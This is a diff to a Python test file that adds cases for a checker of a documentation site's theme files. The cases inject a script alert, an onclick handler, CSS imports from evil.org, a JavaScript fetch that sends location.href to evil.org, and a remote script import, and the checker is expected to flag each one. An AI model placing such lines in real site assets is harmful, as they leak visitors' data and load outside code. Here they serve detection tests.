@@ -211,6 +211,7 @@ def test_navigation_names_pages_that_exist(project: Path) -> None:
 
 
 BASE = "overrides/base.html"
+SHEET, PROGRAM = "overrides/assets/kb/css/blocks.css", "overrides/assets/kb/address.js"
 _FOREIGN = '<link rel="stylesheet" href="https://fonts.googleapis.com/css?x">'
 THEME = [  # (file, what is written there, what instead; nothing empties or deletes it), and what is told
     (BASE, "", "", BASE, "KB121", "is empty"),
@@ -218,7 +219,30 @@ THEME = [  # (file, what is written there, what instead; nothing empties or dele
     ("overrides/404.html", "{% block content %}", "{% block contant %}", "overrides/404.html", "KB332", "'content'?"),
     (BASE, "</head>", "{{ nonexistent.foo }}</head>", BASE, "KB332", "uses 'nonexistent'"),
     (BASE, "</head>", f"{_FOREIGN}</head>", BASE, "KB332", "loads 'https://fonts.googleapis.com/css?x'"),
-    (BASE, "</head>", '<a href="https://example.org/">a</a></head>', "", "", ""),
+    (BASE, "</head>", '<a href="https://example.org/">a</a>{# <style> #}</head>', "", "", ""),
+    (BASE, "</head>", "<style>a { color: red }</style></head>", BASE, "KB332", "holds a style element"),
+    (BASE, "</head>", "<script>alert(1)</script></head>", BASE, "KB332", "holds a program"),
+    (BASE, "</head>", "<b\n onclick='x'>a</b></head>", BASE, "KB332", "holds an attribute that runs a program"),
+    (SHEET, "@layer", "/* url(//a.org/b) */ @layer", "", "", ""),
+    (SHEET, "@layer", '@import url("https://evil.org/a.css"); @layer', SHEET, "KB332", "'https://evil.org/a.css'"),
+    (SHEET, "@layer", "@font-face { src: URL( //evil.org/p ) } @layer", SHEET, "KB332", "loads '//evil.org/p'"),
+    (
+        PROGRAM,
+        "const query",
+        'fetch("https://evil.org/" + location.href); const query',
+        PROGRAM,
+        "KB332",
+        "loads 'https://evil",
+    ),
+    (
+        PROGRAM,
+        "const query",
+        'import "https://evil.org/x.js"; import',
+        PROGRAM,
+        "KB332",
+        "loads 'https://evil.org/x.js'",
+    ),
+    (PROGRAM, "const query", 'const a = "https://example.org/"; import', "", "", ""),
     ("overrides/assets/kb/css/tokens.css", "", "", "overrides/assets/kb/css/tokens.css", "KB121", "bring it back"),
     (
         "overrides/assets/kb/css",
